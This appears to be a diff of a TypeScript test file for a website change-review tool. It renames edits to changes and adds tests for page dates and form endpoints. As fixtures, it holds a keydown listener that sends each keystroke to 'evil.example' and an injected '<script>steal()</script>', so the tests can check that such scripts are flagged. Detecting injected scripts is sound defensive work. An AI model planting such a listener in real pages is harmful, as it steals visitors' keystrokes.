@@ -8,9 +8,9 @@ import { expect, test } from 'vitest';
 import { noSite } from '../../lib/builtSite.ts';
 import { builtFiles, builtSiteOf } from '../../testing/builtSiteOf.ts';
 import type { ChangedFile } from '../changedFiles.ts';
-import type { ChangedLine } from '../edits/changedLines.ts';
-import { editsOf } from '../edits/edits.ts';
-import type { Edit } from '../review.ts';
+import type { ChangedLine } from '../changes/changedLines.ts';
+import { changesOf } from '../changes/changes.ts';
+import type { Change } from '../review.ts';
 import { compareFiles } from './compareFiles.ts';
 import { comparePages } from './comparePages.ts';
 
@@ -21,18 +21,18 @@ interface Sources {
   files?: ChangedFile[];
 }
 
-function editsBetween(old: Files, fresh: Files, { lines = [], files = [] }: Sources = {}): Edit[] {
+function changesBetween(old: Files, fresh: Files, { lines = [], files = [] }: Sources = {}): Change[] {
   const [before, after] = [builtSiteOf(old), builtSiteOf(fresh)];
   const compared = comparePages(before, after, files);
   const outputs = compareFiles({ before, after, compared, files });
-  return editsOf({
+  return changesOf({
     ...{ before, after, later: noSite, compared, outputs, files, lines, problems: [], unpublished: [] },
-    root: '',
+    ...{ root: '', at: '2026-11-01' },
   });
 }
 
-/** An edit in a line: its kind, its name, what differs, and how many pages show it. */
-const line = ({ kind, what, details, pages }: Edit): string =>
+/** A change in a line: its kind, its name, what differs, and how many pages show it. */
+const line = ({ kind, what, details, pages }: Change): string =>
   `${kind} | ${what} | ${details.map(({ label = '', before, after }) => `${label} ${before} → ${after}`).join('; ')} | ${pages.length}`;
 
 /** Replaces a text in every file whose name matches. */
@@ -58,7 +58,7 @@ const script = "addEventListener('scroll',()=>{});";
 const listener = "addEventListener('keydown',e=>fetch('https://evil.example/'+e.key));";
 
 test('what is the same is the same', () => {
-  expect(editsBetween(builtFiles, builtFiles)).toEqual([]);
+  expect(changesBetween(builtFiles, builtFiles)).toEqual([]);
 });
 
 test.each<[string, Files, RegExp]>([
@@ -237,10 +237,10 @@ test.each<[string, Files, RegExp]>([
     /^sent \| .*\/x/m,
   ],
   [
-    'emphasis, an attribute and data behind an answer that the page repeats',
+    'emphasis and data behind a title that the page repeats outside of its data',
     and(
       and(
-        replaced('About a week.', 'About a month.', /contact/),
+        and(replaced('<h1>Contact</h1>', '<h1>Reach us</h1>'), '<title>Contact', '<title>Reach us'),
         '>Write to us.</p>',
         '><b>Write</b> to us.</p>',
         /contact/,
@@ -278,27 +278,27 @@ test.each<[string, Files, RegExp]>([
     /^other \| assets\/text\.woff2/m,
   ],
 ])('%s', (_name, files, expected) => {
-  const edits = editsBetween(builtFiles, files).map(line).join('\n');
-  expect(edits).toMatch(expected);
+  const changes = changesBetween(builtFiles, files).map(line).join('\n');
+  expect(changes).toMatch(expected);
 });
 
 test('a new page is listed with all of its words, and with what it runs', () => {
   const page = (builtFiles['contact.html'] ?? '')
     .replaceAll('/contact', '/team')
     .replace('Write to us.', 'Ann and Bo.<script>steal()</script>');
-  const edits = editsBetween(builtFiles, { ...builtFiles, 'team.html': page })
+  const changes = changesBetween(builtFiles, { ...builtFiles, 'team.html': page })
     .map(line)
     .join('\n');
-  expect(edits).toMatch(/^added \| Contact — Acme .*Ann and Bo\./m);
-  expect(edits).toMatch(/^sent \| Script in the page of \/team .*steal\(\)/m);
+  expect(changes).toMatch(/^added \| Contact — Acme .*Ann and Bo\./m);
+  expect(changes).toMatch(/^sent \| Script in the page of \/team .*steal\(\)/m);
 });
 
-test('words that a page repeats are one edit', () => {
-  const question = editsBetween(builtFiles, replaced('About a week.', 'About a month.', /contact/));
+test('words that a page repeats are one change', () => {
+  const question = changesBetween(builtFiles, replaced('About a week.', 'About a month.', /contact/));
   expect(question.map(line)).toEqual([
     'words | “How long does it take?” on Contact |  About a week. → About a month. | 1',
   ]);
-  const placeholder = editsBetween(builtFiles, replaced('Your name', 'Full name'));
+  const placeholder = changesBetween(builtFiles, replaced('Your name', 'Full name'));
   expect(placeholder).toHaveLength(1);
 });
 
@@ -307,17 +307,17 @@ test('a new entry of the menu does not report aria-current', () => {
     '<nav aria-label="Menu">',
     '<nav aria-label="Menu"><a href="/contact" class="sc-a-0 bwvGEY">Contact</a>',
   );
-  expect(editsBetween(builtFiles, files).every(({ kind }) => kind === 'words')).toBe(true);
+  expect(changesBetween(builtFiles, files).every(({ kind }) => kind === 'words')).toBe(true);
 });
 
-test('generated names are no difference; a style is one edit, also in programs', () => {
+test('generated names are no difference; a style is one change, also in programs', () => {
   const named = and(replaced('bwvGEY', 'hGDpgY'), 'site-ChItC6Ti', 'site-DLdTyeJM');
   const moved = Object.fromEntries(
     Object.entries(named).map(([name, text]) => [name.replace('site-ChItC6Ti', 'site-DLdTyeJM'), text]),
   );
-  expect(editsBetween(builtFiles, moved)).toEqual([]);
+  expect(changesBetween(builtFiles, moved)).toEqual([]);
   const padded = and(moved, 'padding:8px', 'padding:12px', /html|js/);
-  expect(editsBetween(builtFiles, padded).map(line)).toEqual([
+  expect(changesBetween(builtFiles, padded).map(line)).toEqual([
     'look | Styles |  padding:8px → padding:12px | 2',
   ]);
 });
@@ -327,17 +327,17 @@ const changed = (file: string, number: number, text: string, change: ChangedLine
   line: number,
 });
 
-test('a script that is in pages and in a file is one edit, and a color is called by its token', () => {
+test('a script that is in pages and in a file is one change, and a color is called by its token', () => {
   const withScript = and(replaced(script, `${script}hidden();`), 'fetch("/search")', 'hidden()', /site-/);
-  expect(editsBetween(builtFiles, withScript).map(line)).toEqual([
+  expect(changesBetween(builtFiles, withScript).map(line)).toEqual([
     expect.stringMatching(/^sent \| Scripts \| .*hidden\(\).* \| 2$/),
   ]);
   const colored = (color: string) => replaced('h1{line-height:1.2;}', `:root{--muted:${color};}`);
-  expect(editsBetween(colored('#111'), colored('#222')).map(line)).toEqual([
+  expect(changesBetween(colored('#111'), colored('#222')).map(line)).toEqual([
     expect.stringMatching(/^look \| Design token muted \| :root .*#111.* → .*#222.* \| 2$/),
   ]);
   const two = (color: string) => and(colored(color), 'h1{line-height:1.1;}', `:host{--ink:${color};}`);
-  expect(editsBetween(two('#111'), two('#222')).map(line)).toEqual([
+  expect(changesBetween(two('#111'), two('#222')).map(line)).toEqual([
     expect.stringMatching(/^look \| Design token muted, ink \| /),
   ]);
 });
@@ -346,7 +346,35 @@ test.each<[string, ChangedLine[], RegExp]>([
   [
     'a date that removes a page',
     [changed('content/about.mdx', 4, 'expiresAt: 2026-12-24')],
-    /^sent \| expiresAt of \/about.*2026-12-24/m,
+    /^date \| \/about disappears on December 24, 2026 \| expiresAt .*2026-12-24/m,
+  ],
+  [
+    'a date that removes a page later than before',
+    [
+      changed('content/about.mdx', 4, 'expiresAt: 2026-12-24', 'removed'),
+      changed('content/about.mdx', 4, 'expiresAt: "2026-12-31T18:00"'),
+    ],
+    /^date \| \/about disappears on December 31, 2026, 6:00 PM instead of December 24, 2026 \|/m,
+  ],
+  [
+    'a page that no longer disappears',
+    [changed('content/about.mdx', 4, 'expiresAt: 2026-12-24', 'removed')],
+    /^date \| \/about no longer disappears on December 24, 2026 \|/m,
+  ],
+  [
+    'a date from which a page is published',
+    [changed('content/about.mdx', 4, 'publishAt: 2027-01-15')],
+    /^date \| \/about appears on January 15, 2027, and not before \|/m,
+  ],
+  [
+    'a date that is over',
+    [changed('content/about.mdx', 4, 'expiresAt: 2026-10-01')],
+    /^date \| \/about disappeared on October 1, 2026 \|/m,
+  ],
+  [
+    'a draft',
+    [changed('content/about.mdx', 4, 'draft: true')],
+    /^date \| \/about becomes a draft, which visitors do not find \|/m,
   ],
   [
     'an address let go',
@@ -365,24 +393,85 @@ test.each<[string, ChangedLine[], RegExp]>([
   ],
   ['a known word', [changed('content/_words.txt', 9, 'Acmee')], /^unseen \| content\/_words\.txt:9/m],
 ])('%s', (_name, lines, expected) => {
-  expect(editsBetween(builtFiles, builtFiles, { lines }).map(line).join('\n')).toMatch(expected);
+  expect(changesBetween(builtFiles, builtFiles, { lines }).map(line).join('\n')).toMatch(expected);
 });
 
-test('a changed line whose words an edit shows is not listed again, and its edit names it', () => {
+test('a changed line whose words a change shows is not listed again, and its change names it', () => {
   const lines = [
     changed('content/contact.mdx', 12, 'Write to us.', 'removed'),
     changed('content/contact.mdx', 12, 'Call us.'),
   ];
   const files: ChangedFile[] = [{ file: 'content/contact.mdx', status: 'changed' }];
-  const edits = editsBetween(builtFiles, word(builtFiles), { lines, files });
-  expect(edits.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`)).toEqual([
+  const changes = changesBetween(builtFiles, word(builtFiles), { lines, files });
+  expect(changes.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`)).toEqual([
     'words content/contact.mdx:12',
   ]);
 });
 
+test('a new address of the form is one change, with its host in the policy', () => {
+  const old = 'https://forms.example.com/acme';
+  const fresh = 'https://forms.other.example.net/acme';
+  const policies = (origin: string) =>
+    and(
+      replaced("connect-src 'self'", `connect-src 'self' ${origin}`),
+      "form-action 'self'",
+      `form-action 'self' ${origin}`,
+    );
+  const lines = [
+    changed('content/site.yaml', 51, '  send: simulate', 'removed'),
+    changed('content/site.yaml', 51, '  send: endpoint'),
+    changed('content/site.yaml', 52, `  endpoint: ${fresh}`),
+  ];
+  const files: ChangedFile[] = [{ file: 'content/site.yaml', status: 'changed' }];
+  const before = policies(new URL(old).origin);
+  const after = and(policies(new URL(fresh).origin), old, fresh);
+  const changes = changesBetween(before, after, { lines, files });
+  expect(changes.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`)).toEqual([
+    'sent content/site.yaml:52',
+  ]);
+  const text = changes.map(line).join('\n');
+  for (const each of [/Form, action/, /Security policy/, /New host: forms\.other\.example\.net/, /simulate/])
+    expect(text).toMatch(each);
+});
+
+test('what a removed page took with it is listed with it', () => {
+  const { 'contact.html': _, 'contact.md': __, ...left } = builtFiles;
+  const fresh = and(
+    and(
+      and(left, '<a href="/contact" class="sc-a-0 bwvGEY">Contact</a>', ''),
+      '<p>Read <a href="/contact">how to reach us</a>.</p>',
+      '',
+    ),
+    '.bwvGEY:hover{padding:9px;}',
+    '',
+  );
+  const lines = [
+    changed('content/contact.mdx', 1, 'title: Contact', 'removed'),
+    changed('content/contact.mdx', 1, 'teaser: Read how to reach us.', 'removed'),
+    changed('urls.lock', 2, '/contact', 'removed'),
+  ];
+  const files: ChangedFile[] = [
+    { file: 'content/contact.mdx', status: 'removed' },
+    { file: 'urls.lock', status: 'changed' },
+  ];
+  const changes = changesBetween(builtFiles, fresh, { lines, files });
+  expect(changes.map(({ kind }) => kind)).toEqual(['sent', 'removed']);
+  const consequences = changes[1]?.consequences ?? [];
+  const text = consequences.map(({ label, before, after }) => `${label}: ${before} → ${after}`).join('\n');
+  for (const each of [
+    /Menu or footer.*: Home Contact → Home$/m,
+    /Read how to reach us \. → $/m,
+    /padding:9px → $/m,
+  ])
+    expect(text).toMatch(each);
+  // Code that was changed may be the cause too.
+  const withCode = { lines, files: [...files, { file: 'src/Card.tsx', status: 'changed' as const }] };
+  expect(changesBetween(builtFiles, fresh, withCode).map(({ kind }) => kind)).toContain('look');
+});
+
 test('a file that no page shows is listed', () => {
   const files: ChangedFile[] = [{ file: 'content/_pictures/bo.webp', status: 'changed' }];
-  expect(editsBetween(builtFiles, builtFiles, { files }).map(line)).toEqual([
+  expect(changesBetween(builtFiles, builtFiles, { files }).map(line)).toEqual([
     'unseen | content/_pictures/bo.webp, seen on no page |   → the file is changed | 0',
   ]);
 });
@@ -418,7 +507,7 @@ test('of a thousand random changes of what was built, none is nothing', () => {
     fc.property(mutation, (each) => {
       const files = mutated(each);
       fc.pre(JSON.stringify(files) !== JSON.stringify(builtFiles));
-      return editsBetween(builtFiles, files).length > 0;
+      return changesBetween(builtFiles, files).length > 0;
     }),
     { numRuns: 1000, seed: 34 },
   );
@@ -427,13 +516,13 @@ test('of a thousand random changes of what was built, none is nothing', () => {
 /** A page as browsers read it, without spaces: those between elements are no words. */
 const asParsed = ({ 'contact.html': html = '' }: Files): string => serialize(parse(html)).replace(/\s+/g, '');
 
-test('none hides behind an edit of words on the same page', () => {
-  const alone = JSON.stringify(editsBetween(builtFiles, word(builtFiles)));
+test('none hides behind a change of words on the same page', () => {
+  const alone = JSON.stringify(changesBetween(builtFiles, word(builtFiles)));
   fc.assert(
     fc.property(mutation, (each) => {
       const files = mutated({ ...each, file: 'contact.html' });
       fc.pre(asParsed(files) !== asParsed(builtFiles));
-      return JSON.stringify(editsBetween(builtFiles, word(files))) !== alone;
+      return JSON.stringify(changesBetween(builtFiles, word(files))) !== alone;
     }),
     { numRuns: 1000, seed: 34 },
   );
